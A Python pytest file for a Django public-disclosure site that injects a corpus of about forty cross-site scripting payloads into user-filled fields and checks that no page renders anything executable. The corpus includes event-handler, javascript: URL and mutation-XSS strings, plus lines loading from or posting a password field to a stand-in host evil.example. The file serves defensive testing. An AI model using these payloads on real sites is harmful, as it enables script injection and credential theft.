"""A corpus of payloads, put in through the verbs that people use, and read again on every page: none of it runs.

The bodies of pages are parsed as a browser would; whatever could run or load and is not this house's own is a fault.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import suppress
from datetime import date
from typing import Any

import lxml.html
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.encoding import iri_to_uri
from lxml import etree

from tests.access.walk import asked_of, lines
from tests.access.world import NOW, World
from yangguang.accounts import actions as accounts
from yangguang.accounts.models import User
from yangguang.casework.models import Case
from yangguang.disclosure import actions as disclosure
from yangguang.disclosure.models import Item
from yangguang.disclosure.tests.conftest import Gate
from yangguang.journal.actors import SYSTEM
from yangguang.lib import clock
from yangguang.lib.errors import Refusal
from yangguang.organisations import actions as organisations
from yangguang.search import actions as search
from yangguang.sites import actions as sites
from yangguang.sites.models import Site

CORPUS = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=9>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">a</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\" &#14; javascript:alert(1)\">a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=\"java\nscript:alert(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"javascript:alert(1)\"></object><embed src=//evil.example/x.swf>",
    "<base href=\"//evil.example/\"><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style><p style=\"background:url(//evil.example/x)\">a",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>a</button></form>",
    "<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><marquee onstart=alert(1)>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}{% debug %}",
    "javascript:alert(1)//\"><svg/onload=alert(1)>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<x contenteditable onblur=alert(1)>a</x><table background=\"javascript:alert(1)\"><td>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e\\u003cscript\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
]  # fmt: skip

_RUNS = {
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "frame",
    "foreignobject",
    "animate",
    "set",
}
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
_BLANK = re.compile(r"[\x00-\x20]")


def what_runs(html: str) -> Iterator[str]:
    """Everything in a page that could run or load, and is not this house's own."""
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower().rpartition("}")[2]
        if tag in _RUNS or (tag == "style" and element.text) or (tag == "meta" and element.get("http-equiv")):
            yield f"<{tag}>"
        if tag == "script" and element.get("type") != "application/json":
            own = (element.get("src") or "").startswith(("/static/", "/office/shell/")) and not (
                element.text or ""
            ).strip()
            yield from [] if own else [f"<script> {element.text!r} {element.get('src')}"]
        if tag == "link" and not (element.get("href") or "").startswith(("/", "http://testserver")):
            yield f"<link {element.get('href')}>"
        for name, value in element.attrib.items():
            plain = _BLANK.sub("", str(value)).lower()
            if str(name).lower().startswith("on"):
                yield f"<{tag} {name}={value!r}>"
            if str(name).lower() in _ADDRESSES and (
                plain.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg"))
                or re.match(r"(?:https?:)?//evil", plain)
            ):
                yield f"<{tag} {name}={value!r}>"


def what_runs_in_xml(text: str) -> Iterator[str]:
    """The same of a feed or a drawing; what a feed says is HTML, its readers take for HTML."""
    for element in etree.fromstring(text.encode(), etree.XMLParser(recover=True)).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag in {"script", "foreignobject", "iframe", "animate", "set"}:
            yield f"<{tag}>"
        yield from (f"<{tag} {name}>" for name in element.attrib if str(name).lower().startswith("on"))
        if (tag == "description" or element.get("type") == "html") and (element.text or "").strip():
            yield from (f"as HTML: {fault}" for fault in what_runs(f"<div>{element.text}</div>"))


def test_the_reader_of_pages_would_notice() -> None:
    noticed = [
        payload
        for payload in CORPUS
        if list(what_runs(f"<!DOCTYPE html><html><body>{payload}</body></html>"))
    ]
    assert len(noticed) > 30


def put_in(world: World) -> list[Item]:
    """Every field that people fill in, through the verbs; what a verb refuses is not there to be read."""
    gate, cast = Gate(world.cast), world.cast
    body = "".join(f"<p>段落{n}</p>{payload}" for n, payload in enumerate(CORPUS))
    items: list[Item] = []
    for n in range(0, len(CORPUS), 7):
        one, two, three = (CORPUS[(n + k) % len(CORPUS)] for k in range(3))
        item = gate.draft(
            title=f"标题{one}"[:200], doc_number=f"阳民发〔2026〕{n}号{two}"[:60], source=three[:100],
            keywords=f"{two}"[:100], summary=f"概述{''.join(CORPUS[n : n + 7])}"[:290], generated_on=date(2026, 11, 2),
            body_html=body if n == 0 else f"<p>正文</p>{one}{two}{three}",
        )  # fmt: skip
        with suppress(Refusal):  # a file name that cannot be one
            name = f"附件{one}.txt"[:120]
            drafter = gate.drafter(cast.lin, cast.county.civil)
            disclosure.attach(item, SimpleUploadedFile("a.txt", one.encode()), name, acting=drafter)
        items.append(item)
    for item, payload in zip(items[:3], CORPUS[2:], strict=False):
        gate.submit(item)
        for person in (cast.zhou, cast.wu, cast.chen):
            gate.step(item, person, opinion=f"意见{payload}{CORPUS[4]}")
        item.refresh_from_db()
    gate.submit(items[3])
    gate.step(items[3], cast.zhou, "return", opinion=f"退回{CORPUS[0]}{CORPUS[5]}")
    gate.submit(items[4])
    accounts.amend_account(cast.lin, actor=SYSTEM, name=f"林{CORPUS[2]}"[:60])
    county = cast.county
    organisations.rename(
        county.water, name=f"水利局{CORPUS[1]}"[:100], short_name="水利<b>"[:30], actor=SYSTEM
    )
    organisations.create_post(county.water, "evil", name=f"岗{CORPUS[4]}"[:60], permissions=[], actor=SYSTEM)
    sites.open_column(
        Site.objects.get(), "evil", question={"organisations": ["civil-affairs"]}, actor=SYSTEM, name=f"栏{CORPUS[0]}"[:40],
        description=CORPUS[2], keywords="a", column_type="工作动态",
    )  # fmt: skip
    while search.apply():
        pass
    return items


@pytest.fixture(scope="module")
def attacked(laid: World, django_db_blocker: Any) -> list[Item]:
    """What was put in, once for all readers; it goes with the world in which it lies."""
    with django_db_blocker.unblock(), clock.set_to(NOW):
        return put_in(laid)


def read(client: Client, address: str) -> tuple[str, str]:
    response = client.get(iri_to_uri(address))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response.headers.get("Content-Type", ""), body.decode("utf-8", "replace")


@pytest.mark.parametrize("person", ["anonymous", "lin", "zhou", "qian", "sun"])
def test_nothing_that_was_put_in_runs_on_any_page(
    attacked: list[Item],
    world: World,
    browser: Client,
    as_: Callable[[User], Client],
    settings: Any,
    person: str,
) -> None:
    settings.YANGGUANG_RATES = {}
    items = attacked
    client = browser if person == "anonymous" else as_(getattr(world.cast, person))
    addresses = {
        line.address.format_map(world.places)
        for line in lines()
        if line.part != "post" and line.is_public == (person == "anonymous") and asked_of(line, person)
    }
    if person == "anonymous":
        addresses |= {
            f"/search/?q={payload}" for payload in CORPUS if "%" not in payload and "\n" not in payload
        }
        addresses |= {f"/items/{item.index_number}/" for item in items if item.index_number}
        addresses |= {"/columns/evil/", "/organisations/water/", "/verify/?q=<svg onload=alert(1)>"}
    else:
        addresses |= {
            f"/office/items/{item.uid}/{rest}" for item in items for rest in ("", "edit/", "preview/")
        }
        addresses |= {f"/office/items/?q={CORPUS[1]}", f"/office/cases/?q={CORPUS[2]}"}
        cases = Case.objects.filter(subject__in=[item.ref for item in items])
        addresses |= {f"/office/cases/{case.uid}/" for case in cases}
    faults, pages = [], 0
    for address in sorted(addresses):
        kind, text = read(client, address)
        if kind.startswith("text/html") and text.strip():
            pages += 1
            faults += [f"{address}: {fault}" for fault in what_runs(text)]
        elif kind.startswith(
            ("image/svg", "application/atom", "application/rss", "application/xml", "text/xml")
        ):
            faults += [f"{address}: {fault}" for fault in what_runs_in_xml(text)]
        elif kind.startswith("application/json"):
            continue  # never taken for a page: its type is said and may not be guessed (test_headers)
    assert pages > 15
    assert not faults, f"{len(faults)}\n" + "\n".join(faults[:40])
